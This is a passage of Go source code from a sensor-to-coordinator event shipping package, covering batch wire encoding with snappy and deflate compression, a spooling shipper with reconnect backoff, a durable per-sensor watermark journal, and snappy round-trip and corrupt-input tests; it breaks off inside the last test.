	switch codec {
	case CodecRaw:
		buf = append(buf, raw...)
	case CodecSnappy:
		buf = snappyEncode(buf, raw)
	case CodecDeflate:
		var cb bytes.Buffer
		zw, err := flate.NewWriter(&cb, flate.BestSpeed)
		if err != nil {
			return nil, raw, err
		}
		if _, err := zw.Write(raw); err != nil {
			return nil, raw, err
		}
		if err := zw.Close(); err != nil {
			return nil, raw, err
		}
		buf = append(buf, cb.Bytes()...)
	default:
		return nil, raw, fmt.Errorf("fleet: cannot encode with %v", codec)
	}
	return buf, raw, nil
}

// decodeBatch decodes any codec's batch (the coordinator accepts them all,
// whatever the handshake advertised).
func decodeBatch(b []byte) (batchMsg, error) {
	m, _, err := decodeBatchScratch(b, nil)
	return m, err
}

// decodeBatchScratch is decodeBatch with a reusable decompression buffer:
// scratch's storage holds the decompressed payload during decoding and the
// (possibly grown) buffer is returned for the next call. Safe to reuse
// immediately — decoded events never alias it (DecodeEvent copies).
func decodeBatchScratch(b, scratch []byte) (batchMsg, []byte, error) {
	d := wireDecoder{b: b}
	var m batchMsg
	if t := d.u8(); t != msgBatch {
		return m, scratch, fmt.Errorf("fleet: expected Batch, got message type %d", t)
	}
	m.Seq = d.u64()
	codec := Codec(d.u8())
	count := d.u32()
	rawLen := d.u32()
	if d.err != nil {
		return m, scratch, d.err
	}
	if rawLen > maxBatchRaw {
		return m, scratch, fmt.Errorf("fleet: batch declares %d raw bytes, limit %d", rawLen, maxBatchRaw)
	}
	// Every event frame costs at least its 4-byte length prefix, so rawLen
	// bytes cannot hold more than rawLen/4 events. The count is untrusted
	// input and sizes an allocation — a lying header must not reserve
	// gigabytes before the body is even decompressed (found by fuzzing).
	if uint64(count) > uint64(rawLen)/4 {
		return m, scratch, fmt.Errorf("fleet: batch declares %d events in %d raw bytes", count, rawLen)
	}
	var raw []byte
	switch codec {
	case CodecRaw:
		raw = d.b
	case CodecSnappy:
		var err error
		raw, err = snappyDecodeInto(scratch, d.b, int(rawLen))
		if err != nil {
			return m, scratch, err
		}
		scratch = raw
	case CodecDeflate:
		zr := flate.NewReader(bytes.NewReader(d.b))
		var err error
		raw, err = io.ReadAll(io.LimitReader(zr, int64(rawLen)+1))
		if cerr := zr.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return m, scratch, fmt.Errorf("fleet: inflating batch: %w", err)
		}
	default:
		return m, scratch, fmt.Errorf("fleet: batch uses unknown %v", codec)
	}
	if len(raw) != int(rawLen) {
		return m, scratch, fmt.Errorf("fleet: batch decompressed to %d bytes, declared %d", len(raw), rawLen)
	}
	m.Events = make([]ids.Event, 0, count)
	for len(raw) > 0 {
		if len(raw) < 4 {
			return m, scratch, fmt.Errorf("fleet: truncated event frame in batch")
		}
		n := binary.LittleEndian.Uint32(raw)
		raw = raw[4:]
		if uint32(len(raw)) < n {
			return m, scratch, fmt.Errorf("fleet: event frame of %d bytes overruns batch", n)
		}
		ev, err := eventstore.DecodeEvent(raw[:n])
		if err != nil {
			return m, scratch, err
		}
		m.Events = append(m.Events, ev)
		raw = raw[n:]
	}
	if uint32(len(m.Events)) != count {
		return m, scratch, fmt.Errorf("fleet: batch holds %d events, declared %d", len(m.Events), count)
	}
	return m, scratch, nil
}

func encodeAck(watermark uint64) []byte {
	return binary.LittleEndian.AppendUint64([]byte{msgAck}, watermark)
}

func decodeAck(b []byte) (uint64, error) {
	d := wireDecoder{b: b}
	if t := d.u8(); t != msgAck {
		return 0, fmt.Errorf("fleet: expected Ack, got message type %d", t)
	}
	w := d.u64()
	return w, d.finish("Ack")
}

// heartbeat carries sensor-side liveness and lag: the next sequence it will
// assign and how much work is still local (spooled batches, ingest backlog).
type heartbeat struct {
	NextSeq   uint64
	Spooled   uint32
	IngestLag int64
}

func (h *heartbeat) encode() []byte {
	buf := []byte{msgHeartbeat}
	buf = binary.LittleEndian.AppendUint64(buf, h.NextSeq)
	buf = binary.LittleEndian.AppendUint32(buf, h.Spooled)
	return binary.LittleEndian.AppendUint64(buf, uint64(h.IngestLag))
}

func decodeHeartbeat(b []byte) (heartbeat, error) {
	d := wireDecoder{b: b}
	var h heartbeat
	if t := d.u8(); t != msgHeartbeat {
		return h, fmt.Errorf("fleet: expected Heartbeat, got message type %d", t)
	}
	h.NextSeq = d.u64()
	h.Spooled = d.u32()
	h.IngestLag = int64(d.u64())
	return h, d.finish("Heartbeat")
}

// wireDecoder mirrors the eventstore's defensive decoding: every take is
// bounds-checked, the first failure sticks.
type wireDecoder struct {
	b   []byte
	err error
}

func (d *wireDecoder) take(n int) []byte {
	if d.err != nil {
		return nil
	}
	if len(d.b) < n {
		d.err = fmt.Errorf("fleet: message truncated (%d of %d bytes)", len(d.b), n)
		return nil
	}
	out := d.b[:n]
	d.b = d.b[n:]
	return out
}

func (d *wireDecoder) u8() uint8 {
	b := d.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

func (d *wireDecoder) u32() uint32 {
	b := d.take(4)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint32(b)
}

func (d *wireDecoder) u64() uint64 {
	b := d.take(8)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint64(b)
}

func (d *wireDecoder) string16() string {
	b := d.take(2)
	if b == nil {
		return ""
	}
	n := int(binary.LittleEndian.Uint16(b))
	s := d.take(n)
	if s == nil {
		return ""
	}
	return string(s)
}

func (d *wireDecoder) finish(what string) error {
	if d.err != nil {
		return d.err
	}
	if len(d.b) != 0 {
		return fmt.Errorf("fleet: %d stray bytes after %s", len(d.b), what)
	}
	return nil
}

func appendString16(buf []byte, s string) []byte {
	if len(s) > math.MaxUint16 {
		s = s[:math.MaxUint16]
	}
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(s)))
	return append(buf, s...)
}

// The replica protocol (internal/replica) reuses this package's framing and
// batch encoding for log shipping: same torn-frame detection, same
// compression, different message vocabulary on a different listener. The
// exported wrappers below are its surface.

// WriteFrame writes one framed payload: u32 length | u32 CRC | payload.
func WriteFrame(w io.Writer, payload []byte) error { return writeFrame(w, payload) }

// ReadFrame reads one framed payload into buf's storage (growing it as
// needed), verifying the length bound and CRC.
func ReadFrame(r io.Reader, buf []byte) ([]byte, error) { return readFrame(r, buf) }

// MsgBatch is the wire type tag (first payload byte) of an event batch frame.
const MsgBatch = msgBatch

// EncodeEventBatch encodes and compresses one sequenced event batch frame
// payload.
func EncodeEventBatch(seq uint64, events []ids.Event, codec Codec) ([]byte, error) {
	return encodeBatch(seq, events, codec)
}

// DecodeEventBatch decodes an EncodeEventBatch payload, whatever its codec.
func DecodeEventBatch(b []byte) (seq uint64, events []ids.Event, err error) {
	m, err := decodeBatch(b)
	return m.Seq, m.Events, err
}

// ShardOf maps a telescope address onto one of n shards. Both the shard-aware
// replayer (waybackfeed -shard) and sensors use it, so a session's events are
// owned by exactly one sensor: the one whose shard its destination hashes to.
func ShardOf(addr netip.Addr, n int) int {
	if n <= 1 {
		return 0
	}
	h := crc32.Checksum(addr.AsSlice(), wireCRC)
	return int(h % uint32(n))
}
