package fleet

import (
	"context"
	"errors"
	"fmt"
	"hash/fnv"
	"math/rand"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/fault"
	"repro/internal/ids"
)

// ShipperConfig wires a sensor-side shipper.
type ShipperConfig struct {
	// Addr is the coordinator's fleet address. Required.
	Addr string
	// SensorID names this sensor to the coordinator. Required, and must be
	// stable across restarts: it keys the coordinator's watermark.
	SensorID string
	// Shard/Shards advertise which slice of the address space this sensor
	// captures (Shards 0 means 1).
	Shard, Shards int
	// StateDir holds the spool. Required.
	StateDir string
	// Codec compresses outgoing batches. Default snappy.
	Codec Codec
	// Window bounds unacked batches in flight. Zero means 8.
	Window int
	// HeartbeatEvery paces liveness while idle. Zero means 1s.
	HeartbeatEvery time.Duration
	// AckTimeout fails the session when batches are in flight but the
	// coordinator has acked nothing for this long. Small heartbeat writes
	// keep succeeding into the socket buffer on a half-open connection
	// (coordinator power loss, NAT drop), so without this the session would
	// stall for the TCP retransmission timeout (~15+ min) while the spool
	// backlog grows silently. Checked at heartbeat cadence. Zero means 15s.
	AckTimeout time.Duration
	// BackoffMin/BackoffMax bound reconnect backoff (exponential, with up to
	// 50% jitter). Zero means 50ms / 5s.
	BackoffMin, BackoffMax time.Duration
	// DialTimeout bounds one connect attempt. Zero means 5s.
	DialTimeout time.Duration
	// WriteTimeout bounds one frame write. Zero means 10s.
	WriteTimeout time.Duration
	// Lag, when set, reports local ingest backlog for heartbeats.
	Lag func() int64
	// Dial replaces net.DialTimeout (tests route through a flaky proxy or
	// a fault.Network).
	Dial func(addr string, timeout time.Duration) (net.Conn, error)
	// FS is the filesystem the spool runs against. Nil means the real one;
	// the simulation harness substitutes a fault.SimFS.
	FS fault.FS
}

func (c ShipperConfig) withDefaults() ShipperConfig {
	if c.Shards == 0 {
		c.Shards = 1
	}
	if c.Codec == 0 {
		c.Codec = CodecSnappy
	}
	if c.Window == 0 {
		c.Window = 8
	}
	if c.HeartbeatEvery == 0 {
		c.HeartbeatEvery = time.Second
	}
	if c.AckTimeout == 0 {
		c.AckTimeout = 15 * time.Second
	}
	if c.BackoffMin == 0 {
		c.BackoffMin = 50 * time.Millisecond
	}
	if c.BackoffMax == 0 {
		c.BackoffMax = 5 * time.Second
	}
	if c.DialTimeout == 0 {
		c.DialTimeout = 5 * time.Second
	}
	if c.WriteTimeout == 0 {
		c.WriteTimeout = 10 * time.Second
	}
	if c.Dial == nil {
		c.Dial = func(addr string, timeout time.Duration) (net.Conn, error) {
			return net.DialTimeout("tcp", addr, timeout)
		}
	}
	return c
}

// ShipperMetrics is a point-in-time view of shipping progress.
type ShipperMetrics struct {
	Connected  bool
	Reconnects uint64 // connection attempts beyond the first
	SentBatch  uint64 // batch frames written (includes redeliveries)
	AckedSeq   uint64 // highest cumulative ack
	LastSeq    uint64 // highest spooled sequence
	Spooled    int    // unacked batches
}

// Shipper spools event batches durably and ships them to the coordinator
// with a bounded in-flight window, reconnecting with jittered exponential
// backoff. It is the ingest pipeline's Sink on a sensor: AppendBatch lands
// in the spool (so nothing is lost while the coordinator is away) and the
// run loop drains the spool over the wire in sequence order.
type Shipper struct {
	cfg   ShipperConfig
	spool *spool
	rng   *rand.Rand
	rngMu sync.Mutex

	wake chan struct{}
	stop chan struct{}
	done chan struct{}

	connMu sync.Mutex
	conn   net.Conn

	connected  atomic.Bool
	reconnects atomic.Uint64
	sent       atomic.Uint64

	closeOnce sync.Once
	closeErr  error
}

// StartShipper opens (recovering) the spool and starts the ship loop.
func StartShipper(cfg ShipperConfig) (*Shipper, error) {
	cfg = cfg.withDefaults()
	if cfg.Addr == "" || cfg.SensorID == "" || cfg.StateDir == "" {
		return nil, errors.New("fleet: ShipperConfig needs Addr, SensorID, StateDir")
	}
	if cfg.Shard < 0 || cfg.Shard >= cfg.Shards {
		return nil, fmt.Errorf("fleet: shard %d out of range of %d", cfg.Shard, cfg.Shards)
	}
	sp, err := openSpool(cfg.FS, cfg.StateDir)
	if err != nil {
		return nil, err
	}
	h := fnv.New64a()
	h.Write([]byte(cfg.SensorID))
	s := &Shipper{
		cfg:   cfg,
		spool: sp,
		rng:   rand.New(rand.NewSource(int64(h.Sum64()))),
		wake:  make(chan struct{}, 1),
		stop:  make(chan struct{}),
		done:  make(chan struct{}),
	}
	go s.run()
	return s, nil
}

// AppendBatch spools one event batch for delivery (ingest.Sink). The write
// survives a process crash before return (it is in the OS page cache, not
// necessarily on disk — Sync forces it down, and the ingest checkpointer
// does so before advancing past it); delivery is asynchronous.
func (s *Shipper) AppendBatch(events []ids.Event) error {
	if len(events) == 0 {
		return nil
	}
	if _, err := s.spool.Add(events); err != nil {
		return err
	}
	select {
	case s.wake <- struct{}{}:
	default:
	}
	return nil
}

// Metrics returns current shipping progress.
func (s *Shipper) Metrics() ShipperMetrics {
	return ShipperMetrics{
		Connected:  s.connected.Load(),
		Reconnects: s.reconnects.Load(),
		SentBatch:  s.sent.Load(),
		AckedSeq:   s.spool.Acked(),
		LastSeq:    s.spool.LastSeq(),
		Spooled:    s.spool.Depth(),
	}
}

// Sync fsyncs the spool, making every batch accepted by AppendBatch durable.
// The ingest pipeline calls this (as its Sink's optional syncer) before
// advancing its capture checkpoint past the events it handed over.
func (s *Shipper) Sync() error { return s.spool.Sync() }

// Drained reports whether every spooled batch has been acked.
func (s *Shipper) Drained() bool { return s.spool.Depth() == 0 }

// WaitDrained blocks until the spool is fully acked or ctx ends.
func (s *Shipper) WaitDrained(ctx context.Context) error {
	t := time.NewTicker(5 * time.Millisecond)
	defer t.Stop()
	for {
		if s.Drained() {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-t.C:
		}
	}
}

// Close stops the ship loop and closes the spool. Unacked batches stay
// spooled on disk and resume on the next StartShipper with the same
// StateDir; use WaitDrained first for a clean flush.
func (s *Shipper) Close() error {
	s.closeOnce.Do(func() {
		close(s.stop)
		s.connMu.Lock()
		if s.conn != nil {
			s.conn.Close()
		}
		s.connMu.Unlock()
		<-s.done
		s.closeErr = s.spool.Close()
	})
	return s.closeErr
}

func (s *Shipper) stopped() bool {
	select {
	case <-s.stop:
		return true
	default:
		return false
	}
}

func (s *Shipper) run() {
	defer close(s.done)
	backoff := s.cfg.BackoffMin
	first := true
	for {
		if s.stopped() {
			return
		}
		if !first {
			s.reconnects.Add(1)
		}
		first = false
		shipped, err := s.session()
		s.connected.Store(false)
		if s.stopped() {
			return
		}
		if err == nil {
			return // stop requested inside session
		}
		if shipped {
			backoff = s.cfg.BackoffMin // the link worked; churn, not outage
		}
		s.rngMu.Lock()
		jitter := time.Duration(s.rng.Int63n(int64(backoff)/2 + 1))
		s.rngMu.Unlock()
		select {
		case <-s.stop:
			return
		case <-time.After(backoff + jitter):
		}
		backoff *= 2
		if backoff > s.cfg.BackoffMax {
			backoff = s.cfg.BackoffMax
		}
	}
}

// session runs one connection: dial, handshake, then ship until error or
// stop. It reports whether the handshake succeeded (resets backoff) and
// returns nil exactly when stopping.
func (s *Shipper) session() (shipped bool, err error) {
	conn, err := s.cfg.Dial(s.cfg.Addr, s.cfg.DialTimeout)
	if err != nil {
		return false, err
	}
	s.connMu.Lock()
	if s.stopped() {
		s.connMu.Unlock()
		conn.Close()
		return false, nil
	}
	s.conn = conn
	s.connMu.Unlock()
	defer func() {
		conn.Close()
		s.connMu.Lock()
		if s.conn == conn {
			s.conn = nil
		}
		s.connMu.Unlock()
	}()

	h := hello{
		Version:    ProtocolVersion,
		SensorID:   s.cfg.SensorID,
		ShardIndex: uint32(s.cfg.Shard),
		ShardCount: uint32(s.cfg.Shards),
		Codec:      s.cfg.Codec,
	}
	conn.SetWriteDeadline(time.Now().Add(s.cfg.WriteTimeout))
	if err := writeFrame(conn, h.encode()); err != nil {
		return false, err
	}
	conn.SetReadDeadline(time.Now().Add(s.cfg.DialTimeout))
	frame, err := readFrame(conn, nil)
	if err != nil {
		return false, err
	}
	ack, err := decodeHelloAck(frame)
	if err != nil {
		return false, err
	}
	conn.SetReadDeadline(time.Time{})
	if err := s.spool.AckTo(ack.Watermark); err != nil {
		return true, err
	}
	s.connected.Store(true)

	// Reader: acks in, errors out.
	acks := make(chan uint64, 64)
	readErr := make(chan error, 1)
	go func() {
		var buf []byte
		for {
			frame, err := readFrame(conn, buf)
			if err != nil {
				readErr <- err
				return
			}
			buf = frame
			w, err := decodeAck(frame)
			if err != nil {
				readErr <- err
				return
			}
			select {
			case acks <- w:
			case <-s.stop:
				readErr <- errors.New("fleet: stopping")
				return
			}
		}
	}()

	hb := time.NewTicker(s.cfg.HeartbeatEvery)
	defer hb.Stop()
	lastSent := s.spool.Acked()
	// lastHeard is the ack-progress clock: it advances on every ack received
	// and every batch write (so an idle spell before the first in-flight
	// batch never counts against the coordinator). The window bound makes
	// that safe — once acks stop, at most Window more writes succeed before
	// the clock runs untouched and the timeout trips.
	lastHeard := time.Now()
	// Per-session scratch for the send hot path: wire encoding, raw batch
	// concatenation, and frame assembly each reuse one buffer across batches.
	var wireBuf, rawBuf, frameBuf []byte
	for {
		// Fill the window with the next unacked batches.
		for int(lastSent-s.spool.Acked()) < s.cfg.Window {
			b, ok := s.spool.NextAfter(lastSent)
			if !ok {
				break
			}
			payload, raw, err := encodeBatchScratch(wireBuf, rawBuf, b.seq, b.events, s.cfg.Codec)
			if err != nil {
				return true, err
			}
			wireBuf, rawBuf = payload, raw
			conn.SetWriteDeadline(time.Now().Add(s.cfg.WriteTimeout))
			if err := writeFrameReusing(conn, payload, &frameBuf); err != nil {
				return true, err
			}
			s.sent.Add(1)
			lastSent = b.seq
			lastHeard = time.Now()
		}
		select {
		case w := <-acks:
			if err := s.spool.AckTo(w); err != nil {
				return true, err
			}
			lastHeard = time.Now()
		case err := <-readErr:
			return true, err
		case <-s.wake:
		case <-hb.C:
			if inflight := lastSent - s.spool.Acked(); inflight > 0 && time.Since(lastHeard) > s.cfg.AckTimeout {
				return true, fmt.Errorf("fleet: %d batches in flight with no ack in %v; presuming a dead link", inflight, s.cfg.AckTimeout)
			}
			msg := heartbeat{NextSeq: s.spool.LastSeq() + 1, Spooled: uint32(s.spool.Depth())}
			if s.cfg.Lag != nil {
				msg.IngestLag = s.cfg.Lag()
			}
			conn.SetWriteDeadline(time.Now().Add(s.cfg.WriteTimeout))
			if err := writeFrame(conn, msg.encode()); err != nil {
				return true, err
			}
		case <-s.stop:
			return true, nil
		}
	}
}
