package fleet

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"

	"repro/internal/eventstore"
	"repro/internal/fault"
)

// Watermarks is the coordinator's per-sensor high-watermark journal: the
// durable record, kept alongside the eventstore, of the highest batch
// sequence applied from each sensor. A batch at or below its sensor's
// watermark has already been ingested — redelivery after a reconnect or a
// coordinator restart is dropped idempotently, which is what turns the wire
// protocol's at-least-once retransmission into exactly-once ingest.
//
// The journal is an append-only framed log (one record per advance) with the
// eventstore's torn-tail recovery; on open the last record per sensor wins.
// It compacts to one record per sensor when the appended history grows past
// a threshold. Each advance is written and fsynced before the batch is
// acked, so an ack implies the watermark — and therefore the dedup decision
// — survives even power loss. That ordering is load-bearing: once acked, the
// sensor may prune the batch, and a watermark that regressed afterwards
// would ask for a sequence nobody can resend.
type Watermarks struct {
	mu    sync.Mutex
	fs    fault.FS
	f     fault.File
	path  string
	size  int64
	marks map[string]uint64
}

var wmMagic = [8]byte{'F', 'W', 'M', 'K', 0x00, 0x01, '\n'}

// wmCompactAt triggers a rewrite once the journal grows past this size.
const wmCompactAt = 1 << 20

// OpenWatermarks opens (creating if needed) the journal in dir — typically
// the eventstore directory, so store and watermarks live or die together.
func OpenWatermarks(dir string) (*Watermarks, error) {
	return OpenWatermarksFS(nil, dir)
}

// OpenWatermarksFS is OpenWatermarks against an explicit filesystem; nil
// means the real one.
func OpenWatermarksFS(fs fault.FS, dir string) (*Watermarks, error) {
	fs = fault.Or(fs)
	if err := fs.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	path := filepath.Join(dir, "FLEET-WATERMARKS.log")
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	raw, err := fs.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, err
	}
	w := &Watermarks{fs: fs, f: f, path: path, marks: map[string]uint64{}}
	switch {
	case len(raw) < len(wmMagic) && bytes.Equal(raw, wmMagic[:len(raw)]):
		// Empty, or a strict prefix of the magic: a crash tore the file's
		// creation before the header fully reached disk. Nothing else can
		// ever have been written, so reinitialize instead of refusing to
		// open (which would wedge every restart until manual cleanup).
		if _, err := f.Write(wmMagic[:]); err != nil {
			f.Close()
			return nil, err
		}
		if err := f.Truncate(int64(len(wmMagic))); err != nil {
			f.Close()
			return nil, err
		}
		w.size = int64(len(wmMagic))
	case len(raw) < len(wmMagic) || [8]byte(raw[:8]) != wmMagic:
		f.Close()
		return nil, fmt.Errorf("fleet: %s is not a watermark journal", path)
	default:
		good, _, err := eventstore.ScanFrames(raw[len(wmMagic):], func(payload []byte) error {
			id, seq, err := decodeMark(payload)
			if err != nil {
				return err
			}
			if seq > w.marks[id] {
				w.marks[id] = seq
			}
			return nil
		})
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: %s: %w", path, err)
		}
		w.size = int64(len(wmMagic) + good)
		if w.size < int64(len(raw)) {
			if err := f.Truncate(w.size); err != nil {
				f.Close()
				return nil, err
			}
		}
	}
	if _, err := f.Seek(w.size, 0); err != nil {
		f.Close()
		return nil, err
	}
	return w, nil
}

func encodeMark(id string, seq uint64) []byte {
	buf := appendString16(nil, id)
	return binary.LittleEndian.AppendUint64(buf, seq)
}

func decodeMark(b []byte) (string, uint64, error) {
	if len(b) < 2 {
		return "", 0, fmt.Errorf("fleet: watermark record truncated")
	}
	n := int(binary.LittleEndian.Uint16(b))
	b = b[2:]
	if len(b) != n+8 {
		return "", 0, fmt.Errorf("fleet: watermark record of %d bytes, want %d", len(b), n+8)
	}
	return string(b[:n]), binary.LittleEndian.Uint64(b[n:]), nil
}

// Get returns the sensor's high watermark (0 if never seen).
func (w *Watermarks) Get(id string) uint64 {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.marks[id]
}

// Advance durably raises the sensor's watermark to seq. Regressions are
// rejected: the caller applies batches in sequence order, so a smaller seq
// means a logic error, not a retry.
func (w *Watermarks) Advance(id string, seq uint64) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if cur := w.marks[id]; seq <= cur {
		return fmt.Errorf("fleet: watermark for %s would regress %d -> %d", id, cur, seq)
	}
	frame := eventstore.AppendFrame(nil, encodeMark(id, seq))
	if _, err := w.f.Write(frame); err != nil {
		return fmt.Errorf("fleet: advancing watermark for %s: %w", id, err)
	}
	// The ack that follows this advance promises the sensor it may prune the
	// batch, so the record must be on disk — not in the page cache — first.
	if err := w.f.Sync(); err != nil {
		return fmt.Errorf("fleet: syncing watermark for %s: %w", id, err)
	}
	w.size += int64(len(frame))
	w.marks[id] = seq
	if w.size >= wmCompactAt {
		return w.compactLocked()
	}
	return nil
}

// AdvanceAll durably raises several sensors' watermarks with one write and
// one fsync — the group-commit path when the sink has no commit record of
// its own. Entries at or below the current mark are skipped (the committer
// computes a max per sensor, but defensive beats sorry); an empty or fully
// stale map is free.
func (w *Watermarks) AdvanceAll(marks map[string]uint64) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	var frames []byte
	for id, seq := range marks {
		if seq > w.marks[id] {
			frames = eventstore.AppendFrame(frames, encodeMark(id, seq))
		}
	}
	if len(frames) == 0 {
		return nil
	}
	if _, err := w.f.Write(frames); err != nil {
		return fmt.Errorf("fleet: advancing %d watermarks: %w", len(marks), err)
	}
	// One fsync covers every sensor in the group — the acks the committer
	// releases next all depend on it.
	if err := w.f.Sync(); err != nil {
		return fmt.Errorf("fleet: syncing %d watermarks: %w", len(marks), err)
	}
	w.size += int64(len(frames))
	for id, seq := range marks {
		if seq > w.marks[id] {
			w.marks[id] = seq
		}
	}
	if w.size >= wmCompactAt {
		return w.compactLocked()
	}
	return nil
}

// adopt merges marks into memory without journalling. Used when the marks'
// durability lives elsewhere: recovering them from the eventstore's commit
// record at startup, and tracking them after each commit thereafter.
func (w *Watermarks) adopt(marks map[string]uint64) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for id, seq := range marks {
		if seq > w.marks[id] {
			w.marks[id] = seq
		}
	}
}

// encodeWith returns the commit-record meta encoding of the current marks
// merged with extra (max per sensor): the journal's framed records, sorted
// by sensor id, without the file magic. Deterministic so an idle commit
// re-encoding unchanged marks is byte-identical and the store's no-op fast
// path can skip the fsync.
func (w *Watermarks) encodeWith(extra map[string]uint64) []byte {
	w.mu.Lock()
	defer w.mu.Unlock()
	merged := make(map[string]uint64, len(w.marks)+len(extra))
	for id, seq := range w.marks {
		merged[id] = seq
	}
	for id, seq := range extra {
		if seq > merged[id] {
			merged[id] = seq
		}
	}
	ids := make([]string, 0, len(merged))
	for id := range merged {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	var buf []byte
	for _, id := range ids {
		buf = eventstore.AppendFrame(buf, encodeMark(id, merged[id]))
	}
	return buf
}

// decodeMeta parses an encodeWith payload back into marks.
func decodeMeta(b []byte) (map[string]uint64, error) {
	out := map[string]uint64{}
	good, _, err := eventstore.ScanFrames(b, func(payload []byte) error {
		id, seq, err := decodeMark(payload)
		if err != nil {
			return err
		}
		if seq > out[id] {
			out[id] = seq
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	if good != len(b) {
		return nil, fmt.Errorf("fleet: %d stray bytes in watermark commit meta", len(b)-good)
	}
	return out, nil
}

// compactLocked rewrites the journal as one record per sensor. Failure
// paths close the tmp handle and delete the tmp file.
func (w *Watermarks) compactLocked() error {
	ids := make([]string, 0, len(w.marks))
	for id := range w.marks {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	buf := append([]byte(nil), wmMagic[:]...)
	for _, id := range ids {
		buf = eventstore.AppendFrame(buf, encodeMark(id, w.marks[id]))
	}
	tmp := w.path + ".tmp"
	if err := w.fs.WriteFile(tmp, buf, 0o644); err != nil {
		w.fs.Remove(tmp)
		return err
	}
	f, err := w.fs.OpenFile(tmp, os.O_RDWR, 0o644)
	if err != nil {
		w.fs.Remove(tmp)
		return err
	}
	abort := func(err error) error {
		f.Close()
		w.fs.Remove(tmp)
		return err
	}
	// The rewrite replaces records already acked as durable; it must hit the
	// disk before it replaces the journal.
	if err := f.Sync(); err != nil {
		return abort(err)
	}
	if _, err := f.Seek(int64(len(buf)), 0); err != nil {
		return abort(err)
	}
	if err := w.fs.Rename(tmp, w.path); err != nil {
		return abort(err)
	}
	old := w.f
	w.f = f
	w.size = int64(len(buf))
	return old.Close()
}

// All returns a copy of every sensor's watermark.
func (w *Watermarks) All() map[string]uint64 {
	w.mu.Lock()
	defer w.mu.Unlock()
	out := make(map[string]uint64, len(w.marks))
	for id, seq := range w.marks {
		out[id] = seq
	}
	return out
}

// Sync fsyncs the journal.
func (w *Watermarks) Sync() error {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.f.Sync()
}

// Close syncs and closes the journal.
func (w *Watermarks) Close() error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if err := w.f.Sync(); err != nil {
		w.f.Close()
		return err
	}
	return w.f.Close()
}
