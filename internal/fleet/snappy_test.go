package fleet

import (
	"bytes"
	"math/rand"
	"testing"
)

func roundtrip(t *testing.T, src []byte) []byte {
	t.Helper()
	enc := snappyEncode(nil, src)
	dec, err := snappyDecode(enc, len(src))
	if err != nil {
		t.Fatalf("decode (%d bytes in, %d encoded): %v", len(src), len(enc), err)
	}
	if !bytes.Equal(dec, src) {
		t.Fatalf("roundtrip changed %d bytes to %d", len(src), len(dec))
	}
	return enc
}

func TestSnappyRoundtrip(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	cases := [][]byte{
		nil,
		[]byte("a"),
		[]byte("abc"),
		[]byte("abcd"),
		[]byte("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"), // RLE: overlapping copy
		bytes.Repeat([]byte("the CVE wayback machine "), 400),
		make([]byte, 1<<16+17), // zeros, > max offset
	}
	// Incompressible random data must still roundtrip.
	noise := make([]byte, 100_000)
	rng.Read(noise)
	cases = append(cases, noise)
	// Mixed: repetitive with random islands, crossing the 64-byte copy
	// element and 60-byte literal header boundaries.
	mixed := bytes.Repeat([]byte("0123456789abcdef"), 64)
	for i := 0; i < len(mixed); i += 257 {
		mixed[i] = byte(rng.Intn(256))
	}
	cases = append(cases, mixed)

	for i, src := range cases {
		enc := roundtrip(t, src)
		if len(src) > 1000 && bytes.Count(src, []byte{src[0]}) == len(src) {
			if len(enc) > len(src)/10 {
				t.Errorf("case %d: constant input compressed to %d/%d bytes", i, len(enc), len(src))
			}
		}
	}
}

func TestSnappyCompressesEventBatches(t *testing.T) {
	events := testEvents(t, 500)
	var raw []byte
	var tmp []byte
	for i := range events {
		tmp = encodeSpoolBatch(uint64(i), events[i:i+1])
		raw = append(raw, tmp...)
	}
	enc := snappyEncode(nil, raw)
	if len(enc) >= len(raw) {
		t.Fatalf("event batch did not compress: %d -> %d", len(raw), len(enc))
	}
	t.Logf("snappy: %d -> %d bytes (%.1fx)", len(raw), len(enc), float64(len(raw))/float64(len(enc)))
}

// TestSnappyDecodeRejectsCorrupt throws structured garbage at the decoder:
// it must error, never panic, never over-allocate.
func TestSnappyDecodeRejectsCorrupt(t *testing.T) {
	cases := [][]byte{
		{}, // no preamble
		{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, // unterminated uvarint
		{0x05},                   // declares 5 bytes, no body
		{0x05, 0x00},             // literal len 1, no byte
		{0x02, 0x01, 0x00, 0x00}, // copy1 with offset 0 into empty output
		{0x64, 0xf0},             // literal with truncated length byte
		{0x05, 0xfe, 0x01, 0x00}, // copy2 truncated
	}
	for i, src := range cases {
		if _, err := snappyDecode(src, 1<<20); err == nil {
			t.Errorf("case %d: corrupt input decoded without error", i)
		}
	}
	// Oversized preamble is rejected before allocation.
	huge := append([]byte(nil), 0xff, 0xff, 0xff, 0xff, 0x0f)
	if _, err := snappyDecode(huge, 1<<20); err == nil {
		t.Error("4GB preamble accepted")
	}
	// Random garbage: decode must never panic.
	rng := rand.New(rand.NewSource(11))
	buf := make([]byte, 512)
	for i := 0; i < 2000; i++ {
		n := rng.Intn(len(buf))
		rng.Read(buf[:n])
		snappyDecode(buf[:n], 1<<20)
	}
}

func TestSnappyTrailingGarbageRejected(t *testing.T) {
	enc := snappyEncode(nil, []byte("hello hello hello hello"))
	enc = append(enc, 0x00, 0x41) // extra literal past declared length
